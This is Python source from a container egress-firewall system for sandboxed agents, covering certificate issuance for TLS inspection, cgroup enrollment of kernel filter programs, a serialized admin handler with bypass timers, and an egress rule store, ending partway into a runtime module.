    server: bool = False,
    client: bool = False,
) -> CertPair:
    key = ec.generate_private_key(ec.SECP256R1())
    ekus = []
    if server:
        ekus.append(ExtendedKeyUsageOID.SERVER_AUTH)
    if client:
        ekus.append(ExtendedKeyUsageOID.CLIENT_AUTH)
    builder = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)]))
        .issuer_name(ca.cert.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(_now() - datetime.timedelta(minutes=5))
        .not_valid_after(_now() + datetime.timedelta(days=LEAF_DAYS))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(x509.ExtendedKeyUsage(ekus), critical=False)
        .add_extension(
            x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False
        )
        .add_extension(
            x509.AuthorityKeyIdentifier.from_issuer_public_key(ca.key.public_key()),
            critical=False,
        )
    )
    if dns_names:
        builder = builder.add_extension(
            x509.SubjectAlternativeName([x509.DNSName(d) for d in dns_names]),
            critical=False,
        )
    cert = builder.sign(ca.key, hashes.SHA256())
    return CertPair(cert_pem=cert.public_bytes(serialization.Encoding.PEM), key_pem=_key_pem(key))


def generate_domain_cert(ca: CA, domain: str) -> CertPair:
    """MITM server cert for one allowed domain (Envoy presents it)."""
    names = [domain] if not domain.startswith("*.") else [domain, domain[2:]]
    return _issue(ca, names[0], dns_names=names, server=True)


def generate_client_cert(ca: CA, common_name: str) -> CertPair:
    """Client-auth-only leaf (infra subsystems dialing mTLS collectors)."""
    return _issue(ca, common_name, dns_names=[common_name], client=True)


def generate_agent_cert(ca: CA, agent_full_name: str) -> CertPair:
    """Per-agent leaf for the agentd mTLS listener (CN = project.agent)."""
    return _issue(ca, agent_full_name, dns_names=[agent_full_name], server=True, client=True)


def generate_cp_cert(ca: CA, *, dns_names: list[str] | None = None) -> CertPair:
    """Control-plane identity (dials agentd as client, serves admin/agent)."""
    return _issue(
        ca,
        "clawker-controlplane",
        dns_names=dns_names or ["clawker-controlplane", "localhost"],
        server=True,
        client=True,
    )
