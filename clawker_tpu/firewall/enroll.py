"""Container enrollment: cgroup resolution + kernel program attachment.

Enabling the firewall for a container means (1) resolving its cgroup
directory and kernel cgroup id, (2) attaching the nine fw programs to
that cgroup (via fwctl, BPF_F_ALLOW_MULTI), and (3) writing its
``ContainerPolicy`` into the containers map.  Both the resolver and the
attacher are seams with in-memory fakes so the whole handler surface is
unit-testable off-kernel.

Parity reference: controlplane/firewall/cgroup.go (container_id ->
cgroup path/id via Docker inspect on every call -- resolved fresh, never
cached, so container restarts can't leave a stale id: the drift guard
INV-B2-016) and ebpf/manager.go Install :605.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from .. import logsetup
from ..errors import ClawkerError

log = logsetup.get("firewall.enroll")

CGROUP_ROOT = "/sys/fs/cgroup"


class EnrollError(ClawkerError):
    pass


class CgroupResolver:
    """container ref -> (cgroup_id, cgroup_path), resolved fresh."""

    def __init__(self, cgroup_root: str = CGROUP_ROOT):
        self.root = cgroup_root

    def resolve(self, engine, container_ref: str) -> tuple[int, str]:
        info = engine.inspect_container(container_ref)
        cid = info.get("Id") or container_ref
        if not (info.get("State") or {}).get("Running"):
            raise EnrollError(f"container {container_ref}: not running")
        candidates = [
            f"{self.root}/system.slice/docker-{cid}.scope",      # systemd driver
            f"{self.root}/docker/{cid}",                          # cgroupfs driver
            f"{self.root}/machine.slice/docker-{cid}.scope",
        ]
        # the first-party nsd daemon reports its cgroup dir directly
        nsd_dir = info.get("NsdCgroupDir")
        if nsd_dir:
            candidates.insert(0, nsd_dir)
        for path in candidates:
            if os.path.isdir(path):
                # kernel cgroup id == the directory inode on cgroup2
                return os.stat(path).st_ino, path
        raise EnrollError(
            f"container {container_ref}: no cgroup dir found (tried {candidates})"
        )


class FakeCgroupResolver(CgroupResolver):
    """Deterministic ids for tests: inode = stable hash of container id."""

    def resolve(self, engine, container_ref):
        info = engine.inspect_container(container_ref)
        cid = info.get("Id") or container_ref
        if not (info.get("State") or {}).get("Running"):
            raise EnrollError(f"container {container_ref}: not running")
        cgid = int.from_bytes(cid.encode()[:6], "big") or 1
        return cgid, f"/fake/cgroup/{cid}"


class Attacher:
    """Attach/detach the program set to a cgroup via the fwctl loader."""

    def __init__(self, fwctl: str = "clawker-fwctl", pin_dir: str = ""):
        self.fwctl = fwctl
        self.pin_dir = pin_dir

    def _run(self, *args: str) -> None:
        cmd = [self.fwctl, *args]
        if self.pin_dir:
            cmd += ["--pin-dir", self.pin_dir]
        try:
            res = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
        except (OSError, subprocess.TimeoutExpired) as e:
            raise EnrollError(f"fwctl {args[0]}: {e}") from None
        if res.returncode != 0:
            raise EnrollError(f"fwctl {args[0]}: {res.stderr.strip()}")

    def attach(self, cgroup_path: str) -> None:
        self._run("attach", "--cgroup", cgroup_path)

    def detach(self, cgroup_path: str) -> None:
        self._run("detach", "--cgroup", cgroup_path)


class KernelAttacher(Attacher):
    """In-process attach: the programs live in THIS process's verified
    FwKernel (firewall/fwprogs) -- no fwctl binary, no pinned object.
    The attacher owns the kernel handle; callers read/write policy
    through its LiveMaps."""

    def __init__(self, kern=None):
        from .fwprogs import FwKernel, LiveMaps

        self.kern = kern if kern is not None else FwKernel()
        self.maps = LiveMaps(self.kern)

    def attach(self, cgroup_path: str) -> None:
        try:
            self.kern.attach_cgroup(cgroup_path)
        except (OSError, ClawkerError) as e:
            raise EnrollError(f"attach {cgroup_path}: {e}") from None

    def detach(self, cgroup_path: str) -> None:
        self.kern.detach_cgroup(cgroup_path)

    def close(self) -> None:
        self.maps.close()
        self.kern.close()


class FakeAttacher(Attacher):
    def __init__(self):
        super().__init__(fwctl="fake-fwctl")
        self.attached: list[str] = []

    def attach(self, cgroup_path):
        if cgroup_path not in self.attached:
            self.attached.append(cgroup_path)

    def detach(self, cgroup_path):
        if cgroup_path in self.attached:
            self.attached.remove(cgroup_path)
