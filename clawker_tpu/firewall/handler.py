"""FirewallHandler: the 13 admin verbs, serialized through the ActionQueue.

Owned by the control-plane daemon; every verb is registered on the
AdminServer so the CLI reaches it as ``POST /v1/Firewall<Verb>`` behind
mTLS + bearer auth.  All mutations run on the single action thread; reads
(ListRules/Status/ResolveHostname) answer from a consistent snapshot by
riding the same queue.

Parity reference: controlplane/firewall/handler.go -- FirewallInit :300
(idempotent stack-up + re-enroll :374), Enable :538 (per-container cgroup
enroll, drift-guarded INV-B2-016), Disable :603, Bypass :656 (dead-man
timer), AddRules :726, RemoveRule :777, ListRules :824, Reload :932,
Status :948, RotateCA :981, SyncRoutes :1015, ResolveHostname :1032,
Remove :471.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from .. import consts, logsetup
from ..config.schema import EgressRule, from_dict, to_dict
from ..errors import ClawkerError
from .dnsgate import ZonePolicy
from .enroll import Attacher, CgroupResolver, EnrollError
from .maps import FirewallMaps
from .model import (
    FLAG_ENFORCE,
    FLAG_HOSTPROXY,
    Action,
    ContainerPolicy,
)
from . import pki, policy as policy_mod
from .queue import ActionQueue
from .rules import RulesStore
from .stack import FirewallStack

log = logsetup.get("firewall.handler")

BYPASS_DEFAULT_S = 300
BYPASS_MAX_S = 3600


@dataclass
class Enrollment:
    container_id: str
    cgroup_id: int
    cgroup_path: str
    enrolled_at: float = field(default_factory=time.time)


class FirewallHandler:
    def __init__(
        self,
        *,
        stack: FirewallStack,
        maps: FirewallMaps,
        rules_store: RulesStore,
        base_rules: list[EgressRule],
        pki_dir: Path,
        resolver: CgroupResolver,
        attacher: Attacher,
        hostproxy_port: int = consts.HOSTPROXY_PORT,
        allow_hostproxy: bool = True,
        state_path: Path | None = None,
    ):
        self.stack = stack
        self.maps = maps
        self.rules_store = rules_store
        self.base_rules = base_rules
        self.pki_dir = Path(pki_dir)
        self.resolver = resolver
        self.attacher = attacher
        self.hostproxy_port = hostproxy_port
        self.allow_hostproxy = allow_hostproxy
        self.state_path = Path(state_path) if state_path else None
        self.queue = ActionQueue()
        self.enrollments: dict[str, Enrollment] = self._load_enrollments()
        self._bypass_timers: dict[str, threading.Timer] = {}
        self.initialized = False

    # --------------------------------------------------- enrollment state

    def _load_enrollments(self) -> dict[str, Enrollment]:
        """Rehydrate from disk so a restarted handler (CP crash, new CLI
        process) still knows which containers it enrolled -- without this,
        Init's re-enroll would be a no-op and restarted agents would run
        unenforced."""
        import json

        if self.state_path is None or not self.state_path.exists():
            return {}
        try:
            raw = json.loads(self.state_path.read_text())
        except (OSError, ValueError):
            return {}
        return {
            cid: Enrollment(cid, e["cgroup_id"], e["cgroup_path"],
                            e.get("enrolled_at", 0.0))
            for cid, e in raw.items()
        }

    def _persist_enrollments(self) -> None:
        import json

        if self.state_path is None:
            return
        from ..util.fs import atomic_write

        self.state_path.parent.mkdir(parents=True, exist_ok=True)
        atomic_write(self.state_path, json.dumps({
            e.container_id: {"cgroup_id": e.cgroup_id,
                             "cgroup_path": e.cgroup_path,
                             "enrolled_at": e.enrolled_at}
            for e in self.enrollments.values()
        }, indent=1).encode())

    # ------------------------------------------------------------ helpers

    def effective_rules(self) -> list[EgressRule]:
        return self.rules_store.effective(self.base_rules)

    def _sync_data_plane(self) -> dict:
        """Render Envoy + gate + kernel routes from the effective rules.
        The one function every rule mutation funnels through, so proxy,
        gate and kernel can never disagree.

        stack.render validates the bootstrap it is about to deploy
        BEFORE writing it (an invalid config reaching a real Envoy is a
        NACK -- a full egress outage on reload), so a bad rule set fails
        here and the old data plane stays up (reference
        envoy_validate.go)."""
        rules = self.effective_rules()
        bundle = self.stack.ensure_running(rules)
        table = policy_mod.build_routes(
            rules,
            envoy_ip=self.stack.envoy_ip(),
            tls_port=consts.ENVOY_TLS_PORT,
            tcp_ports=bundle.tcp_ports,
        )
        self.maps.sync_routes(table)
        return {"rules": len(rules), "routes": len(table),
                "tcp_listeners": len(bundle.tcp_ports)}

    def _container_policy(self) -> ContainerPolicy:
        flags = FLAG_ENFORCE
        hp_ip, hp_port = "0.0.0.0", 0
        if self.allow_hostproxy:
            flags |= FLAG_HOSTPROXY
            hp_ip, hp_port = self.stack.gateway_ip(), self.hostproxy_port
        # Intra-network bypass (FW_R_INTRA_NET): sibling services on the
        # sandbox bridge are reachable without a rule, like the reference's
        # IntraNetworkBypass (firewall_test.go:398).  Degrade to no-bypass
        # if the network is not inspectable (policy stays fail-closed).
        net_ip, net_prefix = "0.0.0.0", 0
        try:
            net_ip, net_prefix = self.stack.network_cidr()
        except (ClawkerError, KeyError, IndexError, TypeError, ValueError) as e:
            log.warning("intra-net bypass disabled: %s", e)
        return ContainerPolicy(
            envoy_ip=self.stack.envoy_ip(),
            dns_ip=self.stack.gate.host if self.stack.gate else self.stack.gateway_ip(),
            hostproxy_ip=hp_ip,
            hostproxy_port=hp_port,
            flags=flags,
            net_ip=net_ip,
            net_prefix=net_prefix,
        )

    def register_on(self, admin) -> None:
        for verb, fn in (
            ("FirewallInit", self.init), ("FirewallEnable", self.enable),
            ("FirewallDisable", self.disable), ("FirewallBypass", self.bypass),
            ("FirewallAddRules", self.add_rules),
            ("FirewallRemoveRule", self.remove_rule),
            ("FirewallListRules", self.list_rules),
            ("FirewallReload", self.reload), ("FirewallStatus", self.status),
            ("FirewallRotateCA", self.rotate_ca),
            ("FirewallSyncRoutes", self.sync_routes),
            ("FirewallResolveHostname", self.resolve_hostname),
            ("FirewallRemove", self.remove),
        ):
            admin.register(verb, fn)

    # -------------------------------------------------------------- verbs

    def init(self, req: dict) -> dict:
        """Idempotent bring-up + re-enroll of still-running containers
        (stack restart / CP crash recovery: handler.go:374)."""
        def act():
            counts = self._sync_data_plane()
            reenrolled, stale = 0, []
            for cid, enr in list(self.enrollments.items()):
                try:
                    cgid, cgpath = self.resolver.resolve(self.stack.engine, cid)
                except (EnrollError, ClawkerError):
                    stale.append(cid)
                    continue
                if cgid != enr.cgroup_id:  # restarted container: new cgroup
                    self.maps.unenroll(enr.cgroup_id)
                    self.attacher.attach(cgpath)
                    self.enrollments[cid] = Enrollment(cid, cgid, cgpath)
                self.maps.enroll(cgid, self._container_policy())
                reenrolled += 1
            for cid in stale:
                self.maps.unenroll(self.enrollments.pop(cid).cgroup_id)
            self._persist_enrollments()
            self.initialized = True
            return {"initialized": True, "reenrolled": reenrolled,
                    "stale_removed": len(stale), **counts}
        return self.queue.run(act)

    def enable(self, req: dict) -> dict:
        container = str(req.get("container_id") or "")
        if not container:
            raise ClawkerError("enable: container_id required")

        def act():
            if not self.initialized:
                self._sync_data_plane()
                self.initialized = True
            cgid, cgpath = self.resolver.resolve(self.stack.engine, container)
            prior = self.enrollments.get(container)
            if prior and prior.cgroup_id != cgid:
                # drift guard (INV-B2-016): restarted container left a
                # stale cgroup entry -- remove it before enrolling anew
                self.maps.unenroll(prior.cgroup_id)
            self.attacher.attach(cgpath)
            self.maps.enroll(cgid, self._container_policy())
            self.enrollments[container] = Enrollment(container, cgid, cgpath)
            self._persist_enrollments()
            log.info("firewall enabled: container=%s cgroup=%d", container, cgid)
            return {"enabled": True, "cgroup_id": cgid}
        return self.queue.run(act)

    def disable(self, req: dict) -> dict:
        container = str(req.get("container_id") or "")

        def act():
            enr = self.enrollments.pop(container, None)
            if enr is None:
                return {"disabled": False, "reason": "not enrolled"}
            self._cancel_bypass(container)
            self.maps.unenroll(enr.cgroup_id)
            self._persist_enrollments()
            try:
                self.attacher.detach(enr.cgroup_path)
            except EnrollError as e:
                log.warning("detach %s: %s", container, e)
            return {"disabled": True}
        return self.queue.run(act)

    def bypass(self, req: dict) -> dict:
        """Time-boxed full allow with a dead-man timer: if the CP dies the
        deadline stays in the pinned map and Init's CleanupStaleBypass
        analogue (clear_expired) removes it (handler.go:656)."""
        container = str(req.get("container_id") or "")
        duration = min(float(req.get("duration_s") or BYPASS_DEFAULT_S), BYPASS_MAX_S)

        def act():
            enr = self.enrollments.get(container)
            if enr is None:
                raise ClawkerError(f"bypass: {container} is not enrolled")
            # Drift guard (INV-B2-016, handler.go:656): re-resolve the
            # cgroup at bypass time.  A stopped container fails resolution;
            # a restarted one has a new cgroup id -- either way the stale
            # enrollment must not receive a blanket allow.
            try:
                cgid, _ = self.resolver.resolve(self.stack.engine, container)
            except (EnrollError, ClawkerError) as e:
                raise ClawkerError(f"bypass: {container}: {e}") from e
            if cgid != enr.cgroup_id:
                raise ClawkerError(
                    f"bypass: {container}: cgroup drift (INV-B2-016)")
            import math

            # ceil: int truncation must never move the deadline into the past
            deadline = math.ceil(time.time() + duration)
            self.maps.set_bypass(enr.cgroup_id, deadline)
            self._cancel_bypass(container)
            t = threading.Timer(duration, self._bypass_expired, args=(container, enr.cgroup_id))
            t.daemon = True
            t.start()
            self._bypass_timers[container] = t
            return {"bypassed": True, "until_unix": deadline}
        return self.queue.run(act)

    def _bypass_expired(self, container: str, cgroup_id: int) -> None:
        try:
            self.queue.run(lambda: self.maps.clear_bypass(cgroup_id))
            log.info("bypass expired: %s", container)
        except ClawkerError:
            pass

    def _cancel_bypass(self, container: str) -> None:
        t = self._bypass_timers.pop(container, None)
        if t is not None:
            t.cancel()

    def clear_expired_bypass(self) -> int:
        """Init-time GC of deadlines that outlived a dead CP."""
        from .maps import iter_expired_bypass

        n = 0
        for cg in iter_expired_bypass(self.maps):
            self.maps.clear_bypass(cg)
            n += 1
        return n

    def gc_tick(self) -> dict:
        """Periodic map GC: expire dns_cache entries + stale bypass deadlines.

        The kernel deliberately skips expires_unix at lookup (common.h:98:
        TTL "enforced exclusively by userspace GC"), so without this ticker
        stale ip->zone entries keep direct-ALLOW routes open long past DNS
        TTL.  Reference: ebpf/dns_gc.go (GarbageCollectDNS on a ticker).
        Serialized through the action queue like every other map mutation.
        """
        def act():
            return {
                "dns_expired": self.maps.expire_dns(),
                "bypass_cleared": self.clear_expired_bypass(),
            }

        return self.queue.run(act)

    def add_rules(self, req: dict) -> dict:
        raw = req.get("rules") or []
        try:
            new = [from_dict(EgressRule, r) for r in raw]
        except (ValueError, TypeError) as e:
            # ingestion validation (schema RuleValidationError): reject the
            # whole update with a clean RPC error, reference ValidateRule
            raise ClawkerError(str(e)) from e

        def act():
            snapshot = self.rules_store.load()
            added = self.rules_store.add(new)
            try:
                counts = self._sync_data_plane()
            except ClawkerError:
                # refused swap (e.g. invalid bootstrap): the poison rule
                # must not stay persisted, or every later sync -- and the
                # next daemon init -- would re-render the same failure
                self.rules_store.replace(snapshot)
                raise
            return {"added": [r.key() for r in added], **counts}
        return self.queue.run(act)

    def remove_rule(self, req: dict) -> dict:
        key = str(req.get("key") or "")

        def act():
            snapshot = self.rules_store.load()
            removed = self.rules_store.remove(key)
            if not removed:
                return {"removed": False}
            try:
                counts = self._sync_data_plane()
            except ClawkerError:
                self.rules_store.replace(snapshot)  # see add_rules
                raise
            return {"removed": True, **counts}
        return self.queue.run(act)

    def list_rules(self, req: dict) -> dict:
        def act():
            stored = {r.key() for r in self.rules_store.load()}
            return {"rules": [
                {**to_dict(r), "key": r.key(),
                 "source": "dynamic" if r.key() in stored else "base"}
                for r in self.effective_rules()
            ]}
        return self.queue.run(act)

    def reload(self, req: dict) -> dict:
        def act():
            counts = self._sync_data_plane()
            return {"reloaded": True, **counts}
        return self.queue.run(act)

    def status(self, req: dict) -> dict:
        def act():
            return {
                "initialized": self.initialized,
                "enrolled": [
                    {"container_id": e.container_id, "cgroup_id": e.cgroup_id,
                     "bypassed": self.maps.bypassed(e.cgroup_id)}
                    for e in self.enrollments.values()
                ],
                "stack": self.stack.status(),
                "dns_cache_entries": len(self.maps.dns_entries()),
                "routes": len(self.maps.routes()),
            }
        return self.queue.run(act)

    def rotate_ca(self, req: dict) -> dict:
        """New CA: MITM certs regenerate on next render; agent images must
        be rebuilt to trust it (handler.go:981 contract)."""
        def act():
            pki.rotate_ca(self.pki_dir)
            certs = self.stack.conf_dir / "certs"
            if certs.exists():
                for f in certs.iterdir():
                    f.unlink()
            counts = self._sync_data_plane()
            return {"rotated": True, **counts}
        return self.queue.run(act)

    def sync_routes(self, req: dict) -> dict:
        def act():
            return self._sync_data_plane()
        return self.queue.run(act)

    def resolve_hostname(self, req: dict) -> dict:
        """Debug verb: what would the policy do for this name?"""
        hostname = str(req.get("hostname") or "").strip().lower().rstrip(".")

        def act():
            zp = ZonePolicy.from_rules(self.effective_rules())
            zone = zp.match(hostname)
            if zone is None:
                return {"hostname": hostname, "allowed": False,
                        "verdict": "NXDOMAIN (no matching zone)"}
            routes = [
                {"port": k.port, "proto": k.proto, "action": Action(v.action).name,
                 "redirect_port": v.redirect_port}
                for k, v in sorted(self.maps.routes().items(),
                                   key=lambda kv: (kv[0].port, kv[0].proto))
                if k.zone_hash == zone.hash
            ]
            return {"hostname": hostname, "allowed": True, "zone": zone.apex,
                    "wildcard": zone.wildcard, "internal": zone.internal,
                    "routes": routes}
        return self.queue.run(act)

    def remove(self, req: dict) -> dict:
        """Full teardown: detach every cgroup, flush maps, stop the stack."""
        def act():
            for container, enr in list(self.enrollments.items()):
                self._cancel_bypass(container)
                try:
                    self.attacher.detach(enr.cgroup_path)
                except EnrollError as e:
                    log.warning("remove: detach %s: %s", container, e)
            self.enrollments.clear()
            self._persist_enrollments()
            self.maps.flush_all()
            self.stack.stop()
            self.initialized = False
            return {"removed": True}
        return self.queue.run(act)

    # --------------------------------------------------------------- drain

    def close(self) -> None:
        """Drain ordering: queue first (no new mutations), then timers.

        NOTE: an in-process KernelAttacher is deliberately NOT closed
        here -- closing would detach the programs and drop enforcement,
        and close() runs on crash-path drains too (fail-closed: pinned
        OR in-process maps keep enforcing).  teardown() is the explicit
        data-plane removal."""
        self.queue.close()
        for t in self._bypass_timers.values():
            t.cancel()
        self._bypass_timers.clear()

    def teardown(self) -> None:
        """Post-drain data-plane teardown -- drain-to-zero only (no agents
        left to protect).  On a crash-path drain this is NOT called: the
        pinned maps keep enforcing the last rule set (fail-closed)."""
        for enr in self.enrollments.values():
            try:
                self.attacher.detach(enr.cgroup_path)
            except EnrollError as e:
                log.warning("teardown: detach %s: %s", enr.container_id, e)
        self.enrollments.clear()
        self._persist_enrollments()
        self.maps.flush_all()
        self.stack.stop()
        self.initialized = False
