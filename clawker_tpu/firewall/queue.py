"""ActionQueue: every firewall mutation runs on one serialized thread.

Concurrent admin calls (Enable from two container starts, a Reload racing
an AddRules) would otherwise interleave stack restarts, map writes and
config regeneration.  The queue is the whole concurrency story: handlers
submit closures, FIFO order is execution order, and callers block on the
result so admin RPCs stay synchronous.

Parity reference: controlplane/firewall/queue.go (single-goroutine FIFO
through which Handler serializes all mutations).
"""

from __future__ import annotations

import queue as _queue
import threading
from concurrent.futures import Future
from typing import Callable, TypeVar

from ..errors import ClawkerError

T = TypeVar("T")


class QueueClosed(ClawkerError):
    pass


class ActionQueue:
    def __init__(self, name: str = "firewall"):
        self._q: _queue.Queue = _queue.Queue()
        self._closed = threading.Event()
        self._thread = threading.Thread(
            target=self._run, name=f"{name}-actions", daemon=True
        )
        self._thread.start()

    def _run(self) -> None:
        while True:
            item = self._q.get()
            if item is None:
                return
            fut, fn = item
            if not fut.set_running_or_notify_cancel():
                continue
            try:
                fut.set_result(fn())
            except BaseException as e:  # delivered to the caller, queue survives
                fut.set_exception(e)

    def submit(self, fn: Callable[[], T]) -> "Future[T]":
        if self._closed.is_set():
            raise QueueClosed("firewall action queue is closed (draining)")
        fut: Future = Future()
        self._q.put((fut, fn))
        return fut

    def run(self, fn: Callable[[], T], timeout: float = 120.0) -> T:
        """Submit and wait -- the synchronous path admin handlers use."""
        return self.submit(fn).result(timeout)

    def close(self, timeout: float = 30.0) -> None:
        """Stop accepting work, drain what's queued (drain ordering:
        queue close happens FIRST in the CP drain sequence)."""
        if self._closed.is_set():
            return
        self._closed.set()
        self._q.put(None)
        self._thread.join(timeout)
