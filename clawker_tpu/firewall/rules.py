"""Persistent egress rule store: the firewall's source of truth.

``egress-rules.yaml`` in the data dir holds the dynamically-added rules
(FirewallAddRules); the effective rule set is always
required-internal + project + stored, deduped by the ``dst:proto:port``
rule key -- first writer wins, matching the config-layer merge.

Parity reference: controlplane/firewall/rules_store.go
(storage.Store[EgressRulesFile], RuleKey dedupe).
"""

from __future__ import annotations

import threading
from pathlib import Path

import yaml

from ..config.schema import EgressRule, from_dict, to_dict
from ..errors import ClawkerError
from ..util.fs import atomic_write


class RuleError(ClawkerError):
    pass


_DOMAIN_CHARS = frozenset("abcdefghijklmnopqrstuvwxyz0123456789.-_")
# Closed allowlist: a typo'd proto ('htps') with an explicit port would
# otherwise install an opaque TCP lane with none of the SNI/MITM
# inspection the user intended.  Arbitrary named lanes use proto "tcp".
KNOWN_PROTOS = ("https", "http", "tcp", "udp", "ssh", "git")


def validate_rule(r: EgressRule) -> None:
    """Ingestion-time rule validation: a bad rule must error at
    ``firewall add-rules`` time, never at traffic time (reference
    ValidateRule; action/path/method checks live in the schema's
    constructors and have already run by the time a rule object exists).
    """
    if not r.dst:
        raise RuleError("rule missing dst")
    body = r.dst[2:] if r.dst.startswith("*.") else r.dst
    if not body or set(body) - _DOMAIN_CHARS or body.startswith((".", "-")) \
            or ".." in body:
        raise RuleError(f"rule {r.dst!r}: not a valid domain")
    if r.proto not in KNOWN_PROTOS:
        raise RuleError(
            f"rule {r.dst}: unknown proto {r.proto!r} (want one of "
            f"{', '.join(KNOWN_PROTOS)})")
    if r.proto not in ("http", "https") and (
            r.path_rules or r.paths or r.path_default):
        # Opaque lanes carry no L7 filtering: a path rule here would be
        # accepted and silently never enforced -- reject at ingestion.
        raise RuleError(
            f"rule {r.dst}: path rules need an HTTP(S) lane, not "
            f"proto {r.proto!r}")
    if not (0 <= r.port <= 65535):
        raise RuleError(f"rule {r.dst}: port {r.port} out of range")
    if r.proto != "udp" and r.effective_port() == 0:
        # Guards two fail-opens: a typo'd proto ('htps') must not become a
        # port-0 all-ports TCP allow, and an opaque 'tcp' rule must name
        # its port explicitly.
        raise RuleError(
            f"rule {r.dst}: proto {r.proto!r} has no default port; pass "
            "an explicit port for a named TCP lane")


def _merge_rule(prior: EgressRule, incoming: EgressRule) -> EgressRule:
    """Collision merge: incoming wins on action/path_default; path rules
    unioned by path with incoming taking precedence.

    Incoming paths are ordered FIRST: routes match first-prefix-wins, so
    a new more-specific carve-out (e.g. allow /repos/public under a prior
    /repos deny) must precede the prior broader prefix or it would be
    unreachable while the add reports success."""
    merged_paths = list(incoming.effective_path_rules())
    seen = {p.path for p in merged_paths}
    merged_paths += [p for p in prior.effective_path_rules()
                     if p.path not in seen]
    return EgressRule(
        dst=incoming.dst, proto=incoming.proto, port=incoming.port,
        action=incoming.action,
        path_rules=merged_paths,
        path_default=incoming.path_default or prior.path_default,
    )


class RulesStore:
    def __init__(self, path: Path):
        self.path = Path(path)
        self._lock = threading.Lock()

    def load(self) -> list[EgressRule]:
        if not self.path.exists():
            return []
        data = yaml.safe_load(self.path.read_text(encoding="utf-8")) or {}
        out: dict[str, EgressRule] = {}
        for raw in data.get("rules") or []:
            try:
                r = from_dict(EgressRule, raw)
            except (ValueError, TypeError) as e:
                # A rule persisted before ingestion validation existed (or
                # hand-edited) must not brick every firewall verb: skip it
                # (the next write garbage-collects it) and say so.
                import logging
                logging.getLogger("clawker.firewall.rules").warning(
                    "egress-rules.yaml: dropping invalid stored rule %r: %s",
                    raw, e)
                continue
            if r.dst:
                out.setdefault(r.key(), r)
        return list(out.values())

    def _save(self, rules: list[EgressRule]) -> None:
        tree = {"rules": [to_dict(r) for r in rules]}
        body = None
        if self.path.exists():
            # egress-rules.yaml is exactly the file users hand-comment:
            # patch item-surgically (storage/yamledit) so an add/remove
            # keeps every comment; fall back to the re-dump on anything
            # not expressible
            try:
                original = self.path.read_text(encoding="utf-8")
            except OSError:
                original = ""
            if original.strip():
                from ..storage.yamledit import apply_edits

                body = apply_edits(original, tree)
        if body is None:
            body = yaml.safe_dump(tree, sort_keys=False)
        self.path.parent.mkdir(parents=True, exist_ok=True)
        atomic_write(self.path, body.encode())

    def add(self, new: list[EgressRule]) -> list[EgressRule]:
        """Dedupe-add; returns the rules actually added.

        On a key collision the incoming rule wins on action and its path
        rules are unioned by path (reference rules_store.go merge: caller
        wins on Action, PathRules unioned) -- a deny update or a path-rule
        update for an existing dst:proto:port must not be dropped."""
        with self._lock:
            have = {r.key(): r for r in self.load()}
            changed = []
            for r in new:
                validate_rule(r)
                prior = have.get(r.key())
                if prior is None:
                    have[r.key()] = r
                    changed.append(r)
                    continue
                merged = _merge_rule(prior, r)
                if merged != prior:
                    have[r.key()] = merged
                    changed.append(merged)
            if changed:
                self._save(list(have.values()))
            return changed

    def replace(self, rules: list[EgressRule]) -> None:
        """Overwrite the stored set (mutation rollback after a refused
        data-plane swap -- a poison rule must not stay persisted and
        wedge every later sync)."""
        with self._lock:
            self._save(list(rules))

    def remove(self, key: str) -> bool:
        with self._lock:
            rules = self.load()
            kept = [r for r in rules if r.key() != key]
            if len(kept) == len(rules):
                return False
            self._save(kept)
            return True

    def effective(self, base: list[EgressRule]) -> list[EgressRule]:
        """base (required + project) + stored, deduped by key."""
        out = {r.key(): r for r in base}
        for r in self.load():
            out.setdefault(r.key(), r)
        return list(out.values())
