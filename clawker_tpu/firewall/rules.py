"""Persistent egress rule store: the firewall's source of truth.

``egress-rules.yaml`` in the data dir holds the dynamically-added rules
(FirewallAddRules); the effective rule set is always
required-internal + project + stored, deduped by the ``dst:proto:port``
rule key -- first writer wins, matching the config-layer merge.

Parity reference: controlplane/firewall/rules_store.go
(storage.Store[EgressRulesFile], RuleKey dedupe).
"""

from __future__ import annotations

import threading
from pathlib import Path

import yaml

from ..config.schema import EgressRule, from_dict, to_dict
from ..errors import ClawkerError
from ..util.fs import atomic_write


class RuleError(ClawkerError):
    pass


class RulesStore:
    def __init__(self, path: Path):
        self.path = Path(path)
        self._lock = threading.Lock()

    def load(self) -> list[EgressRule]:
        if not self.path.exists():
            return []
        data = yaml.safe_load(self.path.read_text(encoding="utf-8")) or {}
        out: dict[str, EgressRule] = {}
        for raw in data.get("rules") or []:
            r = from_dict(EgressRule, raw)
            if r.dst:
                out.setdefault(r.key(), r)
        return list(out.values())

    def _save(self, rules: list[EgressRule]) -> None:
        body = yaml.safe_dump(
            {"rules": [to_dict(r) for r in rules]}, sort_keys=False
        )
        self.path.parent.mkdir(parents=True, exist_ok=True)
        atomic_write(self.path, body.encode())

    def add(self, new: list[EgressRule]) -> list[EgressRule]:
        """Dedupe-add; returns the rules actually added."""
        with self._lock:
            have = {r.key(): r for r in self.load()}
            added = []
            for r in new:
                if not r.dst:
                    raise RuleError("rule missing dst")
                if r.proto not in ("https", "http", "tcp", "udp"):
                    raise RuleError(f"rule {r.dst}: unknown proto {r.proto!r}")
                if r.key() not in have:
                    have[r.key()] = r
                    added.append(r)
            if added:
                self._save(list(have.values()))
            return added

    def remove(self, key: str) -> bool:
        with self._lock:
            rules = self.load()
            kept = [r for r in rules if r.key() != key]
            if len(kept) == len(rules):
                return False
            self._save(kept)
            return True

    def effective(self, base: list[EgressRule]) -> list[EgressRule]:
        """base (required + project) + stored, deduped by key."""
        out = {r.key(): r for r in base}
        for r in self.load():
            out.setdefault(r.key(), r)
        return list(out.values())
