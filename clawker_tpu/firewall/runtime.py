"""Firewall runtime assembly: one factory both the CP daemon and the
CLI-local path use to build a working handler.

Map backend selection is explicit and loud: with loaded+pinned kernel
programs (``/sys/fs/bpf/clawker-tpu`` present) the handler drives
``PinnedMaps`` and real cgroup attach via fwctl; otherwise construction
fails with instructions, unless the caller opts into ``monitor_fallback``
(userspace-only maps: rules/routes/DNS-gate still function and log, but
